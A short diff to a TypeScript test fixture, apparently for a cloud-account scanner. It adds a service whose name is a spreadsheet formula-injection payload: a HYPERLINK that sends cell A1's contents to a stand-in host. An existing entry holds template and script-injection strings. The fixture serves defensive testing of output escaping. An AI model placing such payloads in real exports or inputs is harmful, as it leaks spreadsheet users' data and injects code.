@@ -236,6 +236,12 @@ export const HOSTILE: ScannedAccount = {
       tasks: 1,
       subnets: ["subnet-a"],
     },
+    {
+      name: `=HYPERLINK("https://spreadsheet.example/?x="&A1,"open")`,
+      images: ["nginx:1.27"],
+      tasks: 1,
+      subnets: ["subnet-a"],
+    },
     // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what the name says
     { name: "${7*7}{{7*7}}&lt;script&gt;", images: ["redis:7"], tasks: 1, subnets: ["subnet-a"] },
   ],
